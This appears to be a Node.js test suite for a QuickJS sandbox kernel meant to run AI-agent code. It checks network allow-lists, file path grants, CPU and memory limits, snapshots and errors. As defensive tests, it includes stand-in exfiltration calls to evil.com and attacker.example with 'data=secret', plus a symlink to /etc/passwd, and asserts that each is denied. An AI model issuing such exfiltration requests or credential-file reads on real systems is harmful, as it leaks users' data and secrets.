// Programs that were written for wasmagent, with one line changed: where the names come from.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { after, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { createMastraSandbox, QuickJSKernel } from "@cove/mastra/wasmagent";
import * as everything from "@cove/mastra/wasmagent";

const DENIED = (host) => `network access denied — host "${host}" not in allowedHosts`;
const soon = (work, what) => {
    let timer;
    const late = new Promise((resolve, reject) => { timer = setTimeout(() => reject(new Error(`${what} did not end`)), 30000); });
    return Promise.race([work, late]).finally(() => clearTimeout(timer));
};

test("names of kernels that are still to come are not there", () => {
    assert.deepEqual(Object.keys(everything).sort(), ["KernelRunError", "QuickJSKernel", "RemoteSandboxKernel", "createMastraSandbox"]);
});

test("CommonJS has the same, and it runs", async () => {
    const common = createRequire(import.meta.url)("@cove/mastra/wasmagent");
    assert.deepEqual(Object.keys(common).sort(), Object.keys(everything).sort());
    const kernel = new common.QuickJSKernel();
    assert.equal((await kernel.run("1 + 1")).output, 2);
    await kernel[Symbol.asyncDispose]();
});

test("where there is no addon, all is imported, and the first run says what to do", async () => {
    const hooks = `import { registerHooks } from "node:module";
        registerHooks({ resolve(name, context, next) {
            if (name === "@cove/node") throw Object.assign(new Error("Cannot find package"), { code: "ERR_MODULE_NOT_FOUND" });
            return next(name, context);
        } });`;
    const program = `import { CoveCodeModeTransport, QuickJSKernel } from "@cove/mastra";
        await new QuickJSKernel().run("1").catch((error) => console.log(error.message));
        await new CoveCodeModeTransport().run({ program: "1", toolIds: [], timeout: 1000 }).catch((error) => console.log(error.message));`;
    const { stdout } = await promisify(execFile)(process.execPath, ["--import", `data:text/javascript,${encodeURIComponent(hooks)}`, "--input-type=module", "-e", program],
        { cwd: new URL("..", import.meta.url) });
    assert.match(stdout, /^KernelError: .*@cove\/node.*not installed here.*Linux.*url\n.*@cove\/node.*not installed here.*Linux.*url\n$/);
});

describe("QuickJSKernel", () => {
    test("gives the last expression's value, what was printed, and nothing else", async () => {
        const kernel = new QuickJSKernel();
        assert.equal((await kernel.run(`[1,2,3].reduce((a,b) => a+b, 0)`)).output, 6);
        assert.deepEqual(await kernel.run("console.log('a', 1); console.warn('b'); console.error('c', 'd'); ({ x: [1, null] })"), {
            output: { x: [1, null] }, logs: ["a 1", "b", "c d"], isFinalAnswer: false,
        });
        assert.deepEqual(await kernel.run("undefined"), { output: undefined, logs: [], isFinalAnswer: false });
        assert.equal((await kernel.run("0 / 0")).output, NaN);
        assert.equal((await kernel.run("-1 / 0")).output, -Infinity);
        assert.ok(Object.is((await kernel.run("-0")).output, -0));
        await kernel[Symbol.asyncDispose]();
    });

    test("awaits a promise that is the value", async () => {
        const kernel = new QuickJSKernel();
        assert.equal((await kernel.run("(async function () { return 'later' })()")).output, "later");
        assert.equal((await kernel.run("const late = await new Promise((done) => setTimeout(() => done(4), 5)); late * 2")).output, 8);
        await assert.rejects(kernel.run("Promise.reject(new TypeError('not today'))"), /not today/);
        await kernel[Symbol.asyncDispose]();
    });

    test("keeps state, lets names be declared again, and forgets all by reset()", async () => {
        const kernel = new QuickJSKernel();
        await kernel.run("let x = 1; function twice(n) { return 2 * n } globalThis.y = 5");
        assert.equal((await kernel.run("twice(x) + y")).output, 7);
        assert.equal((await kernel.run("let x = 10; x")).output, 10);
        await kernel.reset();
        assert.equal((await kernel.run("typeof x + typeof twice + typeof y")).output, "undefinedundefinedundefined");
        await kernel[Symbol.asyncDispose]();
    });

    test("runs that are asked for at once go one after the other", async () => {
        const kernel = new QuickJSKernel();
        await kernel.run("globalThis.seen = []");
        await Promise.all([1, 2, 3].map((n) => kernel.run(`await new Promise((done) => setTimeout(done, ${20 / n})); seen.push(__env__.N)`, { env: { N: String(n) } })));
        assert.deepEqual((await kernel.run("seen")).output, ["1", "2", "3"]);
        await kernel[Symbol.asyncDispose]();
    });

    test("a final answer is the output, in both spellings, of its run alone", async () => {
        const kernel = new QuickJSKernel();
        for (const name of ["__finalAnswer__", "__final_answer__"]) {
            assert.deepEqual(await kernel.run(`${name} = { done: true }; 'not this'`), { output: { done: true }, logs: [], isFinalAnswer: true });
            assert.deepEqual(await kernel.run("typeof __finalAnswer__ + typeof __final_answer__"), { output: "undefinedundefined", logs: [], isFinalAnswer: false });
        }
        await kernel[Symbol.asyncDispose]();
    });

    test("what JSON cannot hold rejects as KernelSerializationError", async () => {
        const kernel = new QuickJSKernel();
        for (const code of ["() => 1", "Symbol('x')", "const o = {}; o.o = o; o", "10n", "__finalAnswer__ = () => 1"]) {
            await assert.rejects(kernel.run(code), /^Error: KernelSerializationError:/, code);
        }
        assert.equal((await kernel.run("1")).output, 1);
        await kernel[Symbol.asyncDispose]();
    });

    test("code that throws rejects with its message, and the state stays", async () => {
        const kernel = new QuickJSKernel();
        await kernel.run("let kept = 'still here'");
        await assert.rejects(kernel.run("console.log('before'); throw new RangeError('too far')"), (error) => {
            assert.match(error.message, /^KernelError: .*too far/);
            assert.equal(error.error.name, "RangeError");
            assert.deepEqual(error.logs, ["before"]);
            assert.equal(error.timedOut, false);
            return true;
        });
        await assert.rejects(kernel.run("})"), /^Error: KernelError: /);
        await assert.rejects(kernel.run("process.exit(3)"), /exit code 3/);
        assert.equal((await kernel.run("kept")).output, "still here");
        await kernel[Symbol.asyncDispose]();
    });

    test("variables are those of the run over those of the kernel, frozen, and gone with the next run", async () => {
        const kernel = new QuickJSKernel({ capabilities: { env: { A: "kernel", B: "kernel" } } });
        assert.deepEqual((await kernel.run("({ ...__env__ })", { env: { B: "run", __proto__: null, "odd'\"\u2028": "\\" } })).output, { A: "kernel", B: "run", "odd'\"\u2028": "\\" });
        assert.deepEqual((await kernel.run("try { 'use strict'; __env__.A = 'x' } catch {} [__env__.A, Object.isFrozen(__env__), process.env.B]")).output, ["kernel", true, "kernel"]);
        const none = new QuickJSKernel();
        assert.equal((await none.run("typeof __env__")).output, "undefined");
        assert.equal((await none.run("__env__.A", { env: { A: "1" } })).output, "1");
        assert.equal((await none.run("typeof __env__")).output, "undefined");
        await kernel[Symbol.asyncDispose]();
        await none[Symbol.asyncDispose]();
    });

    test("a host that is not granted is denied, also when none is", async () => {
        const kernel = new QuickJSKernel();
        const caught = "try { await fetch(URL_OF) } catch (error) { [error.message, error instanceof Error, error.name] }";
        for (const [url, host] of [["https://evil.com/exfil?data=secret", "evil.com"], ["http://evil.com:8080/", "evil.com:8080"], ["https://user.evil.com", "user.evil.com"]]) {
            for (const allowedHosts of [undefined, [], ["api.example.com"], ["*.evil.com.example"]]) {
                const { output } = await kernel.run(caught.replace("URL_OF", JSON.stringify(url)), allowedHosts && { allowedHosts });
                assert.deepEqual(output, [DENIED(host), true, "CapabilityDenied"], `${url} ${allowedHosts}`);
            }
        }
        assert.equal((await kernel.run("await fetch(new Request('http://evil.com/a')).catch((error) => error.message)")).output, DENIED("evil.com"));
        assert.equal((await kernel.run("await fetch(new URL('http://evil.com/a')).catch((error) => error.message)")).output, DENIED("evil.com"));
        // What no rule can allow says why.
        const { output } = await kernel.run("await fetch('http://127.0.0.1/').catch((error) => error.message)", { allowedHosts: ["*"] });
        assert.match(output, /^network access denied — host "127\.0\.0\.1" not in allowedHosts: .*loopback/);
        await assert.rejects(kernel.run("fetch('https://evil.com/data')"), (error) => error.message.endsWith(DENIED("evil.com")));
        // What is no denial stays what it is.
        assert.equal((await kernel.run("await fetch('no url').catch((error) => error.constructor === TypeError && !/denied/.test(error.message))")).output, true);
        assert.equal((await kernel.run("await (await fetch('data:,hello')).text()")).output, "hello");
        await kernel[Symbol.asyncDispose]();
    });

    test("the state stays when a run may reach something else than the one before", async () => {
        const kernel = new QuickJSKernel();
        await kernel.run("let n = 41; const held = { list: [1, 2] }; class Mine { get x() { return held.list.length } }");
        for (const capabilities of [{ allowedHosts: ["a.example"] }, { env: { A: "1" } }, {}, { memoryLimitBytes: 32 << 20 }, { allowedReadPaths: ["/etc/hostname"] }]) {
            assert.deepEqual((await kernel.run("[n, new Mine().x, typeof __env__]", capabilities)).output, [41, 2, capabilities.env ? "object" : "undefined"]);
            assert.equal((await kernel.run("await fetch('https://evil.com').catch((error) => error.message)", capabilities)).output, DENIED("evil.com"));
        }
        assert.equal((await kernel.run("n += 1")).output, 42);
        await kernel[Symbol.asyncDispose]();
    });

    test("an endless loop ends at the lower limit, and at the default of none", async () => {
        const kernel = new QuickJSKernel({ timeoutMs: 60000, capabilities: { cpuMs: 50000 } });
        await kernel.run("let kept = 1");
        await assert.rejects(soon(kernel.run("while (true) {}", { cpuMs: 100 }), "cpuMs"), (error) => error.timedOut && /timed out/.test(error.message));
        await assert.rejects(soon(kernel.run("'x'.repeat(1e5).split('').map(() => Array.prototype.indexOf.call({ length: 4294967295 }, 99))", { cpuMs: 100 }), "native"), /timed out/);
        assert.equal((await kernel.run("1 + 1")).output, 2);
        const tight = new QuickJSKernel({ timeoutMs: 100 });
        await assert.rejects(soon(tight.run("while (true) {}", { cpuMs: 3600000 }), "timeoutMs"), /timed out/);
        await assert.rejects(soon(tight.run("await new Promise((done) => setTimeout(done, 3600000))"), "waiting"), /timed out/);
        await assert.rejects(soon(tight.run("await new Promise(() => {})"), "for ever"), /never settle|timed out/);
        await kernel[Symbol.asyncDispose]();
        await tight[Symbol.asyncDispose]();
    });

    test("memory ends at the lower limit", async () => {
        const kernel = new QuickJSKernel({ maxMemoryBytes: 256 << 20 });
        const code = "const all = []; for (;;) all.push(new Uint8Array(1 << 20).fill(1)); all.length";
        await assert.rejects(soon(kernel.run(code, { memoryLimitBytes: 16 << 20 }), "memory"), /memory/);
        const lower = new QuickJSKernel({ maxMemoryBytes: 16 << 20 });
        await assert.rejects(soon(lower.run("new Uint8Array(64 << 20).length", { memoryLimitBytes: 1 << 30 }), "memory"), /memory/);
        assert.equal((await lower.run("new Uint8Array(1 << 20).length", { memoryLimitBytes: 1 << 30 })).output, 1 << 20);
        await kernel[Symbol.asyncDispose]();
        await lower[Symbol.asyncDispose]();
    });

    test("TypeScript where the run says so", async () => {
        const kernel = new QuickJSKernel();
        assert.equal((await kernel.run("const n: number = 6; n * 7", undefined, { language: "typescript" })).output, 42);
        await assert.rejects(kernel.run("print(1)", undefined, { language: "python" }), /"python".*javascript and typescript/);
        assert.throws(() => new QuickJSKernel({ actionLanguage: "pyodide" }), /pyodide/);
        await kernel[Symbol.asyncDispose]();
    });

    test("a snapshot holds the state, also for another kernel with the key", async () => {
        const kernel = new QuickJSKernel();
        await kernel.run("let n = 1; globalThis.f = () => ++n; 0", { env: { SECRET: "of then" } });
        const snapshot = await kernel.snapshot();
        assert.ok(snapshot instanceof Uint8Array);
        await kernel.run("f(); f()");
        await kernel.restore(snapshot);
        assert.deepEqual((await kernel.run("[f(), typeof __env__]")).output, [2, "undefined"]);
        const other = new QuickJSKernel();
        await other.restore(snapshot);
        assert.equal((await other.run("f()")).output, 2);
        assert.equal((await other.run("await fetch('https://evil.com').catch((error) => error.message)")).output, DENIED("evil.com"));
        await assert.rejects(other.restore(snapshot.slice(0, -1)), /KernelError/);
        assert.equal((await other.run("f()")).output, 3);
        const stranger = new QuickJSKernel({ snapshotKey: new Uint8Array(32).fill(7) });
        await assert.rejects(stranger.restore(snapshot), /KernelError/);
        for (const one of [kernel, other, stranger]) await one[Symbol.asyncDispose]();
    });

    test("after disposing it rejects, and what ran is ended", async () => {
        const kernel = new QuickJSKernel();
        await kernel.run("1");
        const running = assert.rejects(soon(kernel.run("await new Promise((done) => setTimeout(done, 3600000))"), "the run"), /disposed/);
        await kernel[Symbol.asyncDispose]();
        await running;
        await kernel[Symbol.asyncDispose]();
        for (const what of ["run", "reset", "snapshot"]) await assert.rejects(kernel[what]("1"), /disposed/);
        const unused = new QuickJSKernel();
        await unused[Symbol.asyncDispose]();
        await assert.rejects(unused.run("1"), /disposed/);
    });

    test("what it is not given to understand it refuses, by name", async () => {
        assert.throws(() => new QuickJSKernel({ timeOutMs: 5 }), /"timeOutMs"/);
        assert.throws(() => new QuickJSKernel({ timeoutMs: 0 }), /timeoutMs/);
        assert.throws(() => new QuickJSKernel({ capabilities: { allowedHost: ["a"] } }), /"allowedHost"/);
        const kernel = new QuickJSKernel({ variant: {}, variantLoader: () => {}, engine: "js", fuelLimit: 1, epochTickMs: 1 });
        await assert.rejects(kernel.run("1", { allowedHost: ["a"] }), /"allowedHost"/);
        await assert.rejects(kernel.run("1", { cpuMs: -1 }), /cpuMs/);
        await assert.rejects(kernel.run("1", { env: { A: 1 } }), /env\.A/);
        await assert.rejects(kernel.run("1", { allowedHosts: ["https://a.example/"] }), /https:\/\/a\.example/);
        assert.equal((await kernel.run("1", { extraCapabilities: ["tool:web_search"] })).output, 1);
        await kernel[Symbol.asyncDispose]();
    });
});

describe("__fs__", () => {
    let dir, kernel;
    before(async () => {
        dir = await mkdtemp(join(tmpdir(), "wasmagent-"));
        await writeFile(join(dir, "in.txt"), "héllo");
        await symlink("/etc/passwd", join(dir, "leads-out"));
        kernel = new QuickJSKernel();
    });
    after(async () => {
        await kernel[Symbol.asyncDispose]();
        await rm(dir, { recursive: true });
    });
    const read = (path) => `await __fs__.readFile(${JSON.stringify(path)}).catch((error) => 'denied: ' + error.message)`;
    const write = (path) => `await __fs__.writeFile(${JSON.stringify(path)}, 'from inside').then(() => 'written', (error) => 'denied: ' + error.message)`;

    test("reads and writes below what is granted, and nothing else", async () => {
        const file = join(dir, "in.txt"), made = join(dir, "out.txt");
        assert.match((await kernel.run(read(file))).output, /^denied: .*allowedReadPaths/);
        assert.equal((await kernel.run(read(file), { allowedReadPaths: [dir] })).output, "héllo");
        assert.equal((await kernel.run(read(file), { allowedReadPaths: [relative(process.cwd(), dir)] })).output, "héllo");
        assert.match((await kernel.run(write(made), { allowedReadPaths: [dir] })).output, /^denied: .*allowedWritePaths/);
        assert.equal((await kernel.run(write(made), { allowedWritePaths: [dir] })).output, "written");
        assert.match((await kernel.run(read(made), { allowedWritePaths: [dir] })).output, /^denied: /);
        assert.equal(await readFile(made, "utf8"), "from inside");
        assert.match((await kernel.run(read(join(dir, "leads-out")), { allowedReadPaths: [dir] })).output, /^denied: /);
        assert.match((await kernel.run(read(join(dir, "..", "x")), { allowedReadPaths: [dir] })).output, /^denied: /);
    });

    test("a path that is not there yet is granted once it is", async () => {
        const later = join(dir, "later.txt"), manifest = { allowedReadPaths: [later] };
        assert.match((await kernel.run(`globalThis.held = 1; ${read(later)}`, manifest)).output, /^denied: /);
        await writeFile(later, "now");
        assert.equal((await kernel.run(read(later), manifest)).output, "now");
        const made = join(dir, "made.txt");
        assert.equal((await kernel.run(write(made), { allowedWritePaths: [made] })).output, "written");
        assert.equal((await kernel.run("held")).output, 1);
        await assert.rejects(kernel.run("1", { allowedReadPaths: ["/proc"] }), /\/proc/);
    });

    test("allowedPaths stands for both lists", async () => {
        const made = join(dir, "both.txt");
        assert.deepEqual((await kernel.run(`[${write(made)}, ${read(made)}]`, { allowedPaths: [dir] })).output, ["written", "from inside"]);
        assert.match((await kernel.run(read(made), { allowedPaths: [] })).output, /^denied: /);
    });
});

describe("createMastraSandbox", () => {
    const of = (options, capabilities) => createMastraSandbox({ kernel: new QuickJSKernel(options), capabilities });

    test("text as it is, anything else as JSON, nothing for undefined; the log is stderr", async () => {
        const sandbox = of();
        assert.deepEqual(await sandbox.execute("console.log('hello'); console.error('you'); ({ a: 1, b: [2, 3] })"), { output: '{"a":1,"b":[2,3]}', stderr: "hello\nyou", exitCode: 0 });
        assert.deepEqual(await sandbox.execute("'text'"), { output: "text", stderr: "", exitCode: 0 });
        assert.deepEqual(await sandbox.execute("undefined"), { output: "", stderr: "", exitCode: 0 });
        assert.deepEqual(await sandbox.execute("null"), { output: "null", stderr: "", exitCode: 0 });
    });

    test("nothing that goes wrong rejects", async () => {
        const sandbox = of({}, { allowedHosts: ["api.example.com"] });
        for (const [code, options, said] of [
            ["throw new Error('mine')", undefined, /mine/],
            ["})", undefined, /KernelError/],
            ["fetch('https://evil.com/data')", undefined, /CapabilityDenied: network access denied — host "evil\.com" not in allowedHosts$/],
            ["() => 1", undefined, /^KernelSerializationError:/],
            ["while (true) {}", { timeout: 100 }, /timed out/],
            ["await new Promise((done) => setTimeout(done, 3600000))", { timeout: 100 }, /timed out/],
            ["1", { timeout: -5 }, /timeout/],
            ["1", { language: "cobol" }, /cobol/],
            ["1", { timeOut: 5 }, /"timeOut"/],
            [undefined, undefined, /string/],
        ]) {
            const result = await soon(sandbox.execute(code, options), String(code));
            assert.equal(result.exitCode, 1, String(code));
            assert.equal(result.output, "");
            assert.match(result.stderr, said);
        }
        for (const kernel of [{ run() { throw "only text"; } }, { async run() { const output = {}; output.output = output; return { output, logs: [], isFinalAnswer: false }; } }]) {
            assert.equal((await createMastraSandbox({ kernel }).execute("1")).exitCode, 1);
        }
        assert.throws(() => createMastraSandbox({}), /kernel/);
    });

    test("timeout tightens and never widens", async () => {
        const seen = [];
        const kernel = { async run(code, manifest, hints) { seen.push([manifest.cpuMs, hints.wallMs]); return { output: 1, logs: [], isFinalAnswer: false }; } };
        const sandbox = createMastraSandbox({ kernel, capabilities: { cpuMs: 200 } });
        await sandbox.execute("1", { timeout: 100 });
        await sandbox.execute("1", { timeout: 9000 });
        await sandbox.execute("1");
        assert.deepEqual(seen, [[100, 100], [200, 9000], [200, undefined]]);
    });

    test("variables of the call lie over those of the provider, and stay out of the next call", async () => {
        const sandbox = of({}, { env: { REGION: "us", APP: "demo" } });
        const code = "JSON.stringify({ region: __env__.REGION, app: __env__.APP, more: __env__.MORE })";
        assert.deepEqual(JSON.parse((await sandbox.execute(code, { env: { REGION: "eu", MORE: "x" } })).output), { region: "eu", app: "demo", more: "x" });
        assert.deepEqual(JSON.parse((await sandbox.execute(code)).output), { region: "us", app: "demo" });
    });

    test("the README's capabilities", async () => {
        const sandbox = of({ timeoutMs: 5_000 }, { allowedHosts: [], allowedPaths: [], cpuMs: 5_000, memoryLimitBytes: 64 * 1024 * 1024, env: { OPENAI_API_KEY: "k" } });
        const { stderr, exitCode } = await sandbox.execute('await fetch("https://attacker.example/exfil?data=secret")');
        assert.equal(exitCode, 1);
        assert.ok(stderr.endsWith(DENIED("attacker.example")), stderr);
        assert.equal((await sandbox.execute("__env__.OPENAI_API_KEY")).output, "k");
    });

    test("a kernel of somebody else's is used as it is", async () => {
        const given = [];
        const sandbox = createMastraSandbox({ kernel: { async run(...all) { given.push(all.slice(0, 2)); return { output: [1], logs: ["a", "b"], isFinalAnswer: false }; } }, capabilities: { cpuMs: 9 } });
        assert.deepEqual(await sandbox.execute("code"), { output: "[1]", stderr: "a\nb", exitCode: 0 });
        assert.deepEqual(given, [["code", { cpuMs: 9 }]]);
    });
});
